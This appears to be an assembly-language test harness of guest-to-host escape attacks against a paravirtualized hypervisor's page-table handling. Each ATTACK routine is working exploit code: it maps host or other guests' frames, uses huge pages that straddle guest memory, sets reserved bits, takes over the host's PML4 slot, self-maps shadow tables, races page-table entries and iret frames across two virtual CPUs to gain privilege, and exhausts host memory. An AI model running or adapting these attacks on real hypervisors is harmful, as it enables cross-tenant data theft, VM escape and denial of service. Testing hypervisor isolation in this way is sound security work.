/*
 * The guest's page tables, which the guest writes as it likes: what the processor walks must never say what they say
 * before it has been checked.
 */

/* %rdx: an entry. Maps it at WINDOW and tells the host in every way that there is. */
map_window:
        pushq   %rbx
        movq    %rdx, %rbx
        SET_ENTRY PT_USER_PA, $0x100
        HCALL   LHCALL_SET_PTE, $PML4_PA, $WINDOW, %rbx
        HCALL   LHCALL_MMU_UPDATE, $(PT_USER_PA + 8 * 0x100), %rbx
        HCALL   LHCALL_FLUSH_TLB_ADDR, $WINDOW
        popq    %rbx
        ret

/* Reads and writes at WINDOW. */
use_window:
        movl    $WINDOW, %ebx
        PEEK    %rbx
        movl    $(WINDOW + 8), %ebx
        POKE    %rbx
        ret

/*
 * A leaf entry that names a frame of somebody else's: the host's, another guest's, the host's page tables. Each is
 * tried as the machine counts frames, as the guest counts them (so that adding the guest's base wraps around to it),
 * and a few that lie beyond everything.
 */
ATTACK  pte_host_frame
        call    foreign_frame
        orq     $USER_FLAGS, %rdx
        call    map_window
        call    use_window
        END

/* %rdx: the frame that the variant says. */
foreign_frame:
        movq    PARAMS + AP_VARIANT, %rax
        movq    PARAMS + AP_SECRET_PA, %rdx
        cmpl    $2, %eax
        jb      1f
        movq    PARAMS + AP_VICTIM_PA, %rdx
        cmpl    $4, %eax
        jb      1f
        movq    PARAMS + AP_HOST_ROOT, %rdx
        cmpl    $6, %eax
        jb      1f
        movq    PARAMS + AP_BYTES, %rdx
        je      3f
        movl    $0xfee00000, %edx
        cmpl    $8, %eax
        jb      3f
        movq    $0x000ffffffffff000, %rdx
        ret
1:      testl   $1, %eax
        jz      2f
        subq    PARAMS + AP_BASE, %rdx
        movq    $0x000ffffffffff000, %rcx
        andq    %rcx, %rdx
2:      ret
3:      addq    frame_offset(%rip), %rdx
        ret

/*
 * A page of 2 MiB whose first half is the guest's and whose second half is not: who checks only where it begins gives
 * away what lies behind the guest's memory, which here is another guest.
 */
ATTACK  huge_page_straddle
        movl    $0x200000, %edx
        OWN_ENTRY %rdx, 0xe7
        SET_ENTRY PD_LOW_PA, $4
        HCALL   LHCALL_SET_PMD, $PD_LOW_PA, $4
        HCALL   LHCALL_FLUSH_TLB, $1
        movl    $0x800000, %ebx
        PEEK    %rbx
        movl    $(0x800000 - 0x200000), %ebx
        addq    PARAMS + AP_BYTES, %rbx
        addq    PARAMS + AP_VICTIM_PA, %rbx
        subq    PARAMS + AP_BASE, %rbx
        subq    PARAMS + AP_BYTES, %rbx
        PEEK    %rbx
        addq    $8, %rbx
        POKE    %rbx
        END

/* The same one level up: 1 GiB from 0, of which 3 MiB are the guest's. */
ATTACK  pdpt_gigabyte
        xorl    %edx, %edx
        OWN_ENTRY %rdx, 0xe7
        SET_ENTRY PDPT_LOW_PA, $1
        HCALL   LHCALL_SET_PUD, $PDPT_LOW_PA, $1
        HCALL   LHCALL_FLUSH_TLB, $1
        movl    $(0x40000000 + KERNEL_PAGE_PA), %ebx
        TRY     movq (%rbx), %rax
        movl    $0x40000000, %ebx
        addq    PARAMS + AP_VICTIM_PA, %rbx
        subq    PARAMS + AP_BASE, %rbx
        PEEK    %rbx
        addq    $8, %rbx
        POKE    %rbx
        END

/*
 * Bits of an entry that must be 0, one in each run, in a leaf, in an entry for 2 MiB and in an upper one: who takes the
 * frame with the wrong mask, or copies what he does not know, maps something else.
 */
ATTACK  reserved_bits
        movl    $PAGES_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        movq    PARAMS + AP_VARIANT, %rcx
        addl    $12, %ecx
        btsq    %rcx, %rdx
        call    map_window
        movl    $WINDOW, %ebx
        PEEK    %rbx
        xorl    %edx, %edx
        OWN_ENTRY %rdx, 0xe7
        movq    PARAMS + AP_VARIANT, %rcx
        addl    $12, %ecx
        btsq    %rcx, %rdx
        SET_ENTRY PD_LOW_PA, $4
        HCALL   LHCALL_SET_PMD, $PD_LOW_PA, $4
        movl    $0x800000, %ebx
        PEEK    %rbx
        /* A PML4 entry with PS, and one with the variant's bit. */
        movl    $PDPT_LOW_PA, %edx
        OWN_ENTRY %rdx, 0xe7
        SET_ENTRY PML4_PA, $1
        HCALL   LHCALL_SET_PGD, $PML4_PA, $1
        movq    $0x8000000000, %rbx
        PEEK    %rbx
        movl    $PDPT_LOW_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        movq    PARAMS + AP_VARIANT, %rcx
        addl    $12, %ecx
        btsq    %rcx, %rdx
        SET_ENTRY PML4_PA, $1
        HCALL   LHCALL_SET_PGD, $PML4_PA, $1
        PEEK    %rbx
        END

/*
 * The slot of the PML4 that is the host's. The guest fills it with tables of its own: then either its next event finds
 * no host any more, or the host's pages are where the guest can reach them.
 */
ATTACK  own_host_slot
        movl    $PDPT_LOW_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        SET_ENTRY PML4_PA, $LGUEST_HOST_PML4_SLOT
        HCALL   LHCALL_SET_PGD, $PML4_PA, $LGUEST_HOST_PML4_SLOT
        HCALL   LHCALL_FLUSH_TLB, $1
        HCALL   LHCALL_NEW_PGTABLE, $PML4_PA
        call    read_fixed
        call    write_fixed
        movl    $PDPT_LOW_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        movq    PARAMS + AP_DIRECT, %rax
        shrq    $39, %rax
        andl    $511, %eax
        SET_ENTRY PML4_PA, %rax
        HCALL   LHCALL_NEW_PGTABLE, $PML4_PA
        call    read_direct
        call    write_direct
        TRY     ud2
        END

/*
 * The shadows. A PML4 that contains itself shows its own tables at addresses that can be computed; if what is shown
 * were the shadow, one store there would map any frame of the machine, and nobody would check.
 */
#define SELF            300
#define SELF_MAP        (0xffff000000000000 + (SELF << 39))
ATTACK  reach_shadow
        movl    $PML4_PA, %edx
        OWN_ENTRY %rdx, 0x61            /* read-only would do: writing is tried below */
        SET_ENTRY PML4_PA, $SELF
        HCALL   LHCALL_SET_PGD, $PML4_PA, $SELF
        call    1f
        movl    $PML4_PA, %edx
        OWN_ENTRY %rdx, KERNEL_FLAGS
        SET_ENTRY PML4_PA, $SELF
        HCALL   LHCALL_SET_PGD, $PML4_PA, $SELF
        call    1f
        END
1:      movq    $(SELF_MAP + (WINDOW >> 9)), %rbx
        TRY     movq (%rbx), %rax
        movq    PARAMS + AP_SECRET_PA, %rdx
        orq     $USER_FLAGS, %rdx
        TRY     movq %rdx, (%rbx)
        HCALL   LHCALL_FLUSH_TLB_ADDR, $WINDOW
        movl    $WINDOW, %ebx
        PEEK    %rbx
        ret

/*
 * Two virtual CPUs. One changes an entry as fast as it can, from a frame of the guest's own to one that is not; the
 * other makes the host look at it: by faults, by hypercalls, by stores that the host carries out. Between the look and
 * the use lies the attack.
 */
ATTACK  table_race
        movq    $race_entries, %rbx
        call    second_vcpu
        movl    $PAGES_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        movq    %rdx, %r8
        movl    $300, %r13d
1:      HCALL   LHCALL_SET_PTE, $PML4_PA, $WINDOW, %r8
        HCALL   LHCALL_FLUSH_TLB_ADDR, $WINDOW
        call    2f
        decl    %r13d
        jnz     1b
        END
2:      TRY     movq WINDOW, %rax
        cmpl    $-1, %r12d
        jne     3f
        testq   %rax, %rax
        jz      3f
        movl    $WINDOW, %ebx
        REPORT  R_READ, %rbx, %rax
3:      ret
race_entries:
        movl    $PAGES_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        movq    PARAMS + AP_VICTIM_PA, %rbx
        movq    PARAMS + AP_VARIANT, %rcx
        testl   $1, %ecx
        jz      1f
        subq    PARAMS + AP_BASE, %rbx
1:      orq     $USER_FLAGS, %rbx
        movq    $VIRT(PT_USER_PA + 8 * 0x100), %rdi
2:      movq    %rdx, (%rdi)
        movl    $20, %ecx
3:      loop    3b
        movq    %rbx, (%rdi)
        jmp     2b

/*
 * The same a level up: an entry that is now a table, now a page of 2 MiB beyond the guest's memory. What was read as a
 * table must not be used as a page. The 2 MiB are the guest's for their first half, and at the address that is read the
 * victim's.
 */
ATTACK  upper_table_race
        movq    $race_upper, %rbx
        call    second_vcpu
        movl    $300, %r13d
1:      HCALL   LHCALL_SET_PMD, $PD_LOW_PA, $4
        HCALL   LHCALL_FLUSH_TLB, $0
        TRY     movq 0x908000, %rax
        cmpl    $-1, %r12d
        jne     2f
        movl    $0x908000, %ebx
        REPORT  R_READ, %rbx, %rax
2:      TRY     movq $MARK, 0x908008
        decl    %r13d
        jnz     1b
        END
race_upper:
        movl    $TABLES_PA, %edx
        OWN_ENTRY %rdx, USER_FLAGS
        movq    $VIRT(PD_LOW_PA + 8 * 4), %rdi
        movq    PARAMS + AP_BASE, %rbx
        subq    frame_offset(%rip), %rbx        /* 0 if entries hold machine frames */
        negq    %rbx
        addq    PARAMS + AP_VICTIM_PA, %rbx
        andq    $~0x1fffff, %rbx
        orq     $0xe7, %rbx
2:      movq    %rdx, (%rdi)
        movl    $20, %ecx
3:      loop    3b
        movq    %rbx, (%rdi)
        jmp     2b

/* A return frame that changes while the host reads it: the selector that was checked is not the one that is used. */
#define RACE_FRAME_PA   0x40800
ATTACK  iret_race
        movq    $race_frame, %rbx
        call    second_vcpu
        movl    $300, %r13d
1:      movq    $VIRT(RACE_FRAME_PA), %rsp
        leaq    3f(%rip), %rax
        movq    %rax, LGI_RIP(%rsp)
        movl    %cs, %eax
        movq    %rax, LGI_CS(%rsp)
        movq    $0x202, LGI_RFLAGS(%rsp)
        movq    %rsp, LGI_RSP(%rsp)
        jmp     go_back
3:      movl    %cs, %eax
        testl   $3, %eax
        jz      iret_race_payload
        pushfq
        popq    %rax
        testl   $0x3000, %eax
        jz      4f
        REPORT  R_FLAGS, $0, %rax
4:      decl    %r13d
        jnz     1b
        movq    $VIRT(STACK_PA + 0x1000), %rsp
        END
        PAYLOAD iret_race_payload
race_frame:
        movq    $VIRT(RACE_FRAME_PA), %rdi
        movl    %cs, %eax
1:      movq    $0x10, LGI_CS(%rdi)
        movq    $0x3002, LGI_RFLAGS(%rdi)
        movq    %rax, LGI_CS(%rdi)
        movl    $50, %ecx
2:      loop    2b
        jmp     1b

/*
 * Page tables without end. A host has so much memory; each root that the guest names, each table that it touches, costs
 * some of it. Two hundred roots, each with other tables below it, again and again.
 */
ATTACK  table_exhaustion
        movl    $3, %r13d
1:      movl    $PAGES_PA, %r8d
2:      /* A root that shares the kernel's part with ours, and has this page at every level of its slot 1. */
        movq    $VIRT(PML4_PA), %rsi
        leaq    KERNEL_OFFSET(%r8), %rdi
        movl    $512, %ecx
        rep movsq
        movq    %r8, %rdx
        OWN_ENTRY %rdx, USER_FLAGS
        movq    %rdx, KERNEL_OFFSET + 8(%r8)
        movq    %rdx, KERNEL_OFFSET + 16(%r8)
        movq    %rdx, KERNEL_OFFSET + 24(%r8)
        HCALL   LHCALL_NEW_PGTABLE, %r8
        movq    $0x8040201000, %rbx     /* index 1 at each of the levels, then 2, 3 */
3:      TRY     movq (%rbx), %rax
        TRY     movq $5, 0x800(%rbx)
        movq    $0x8040201000, %rax
        addq    %rax, %rbx
        movq    $0x20000000000, %rax
        cmpq    %rax, %rbx
        jb      3b
        addq    $4096, %r8
        cmpq    $0xff000, %r8
        jb      2b
        HCALL   LHCALL_NEW_PGTABLE, $PML4_PA
        decl    %r13d
        jnz     1b
        END
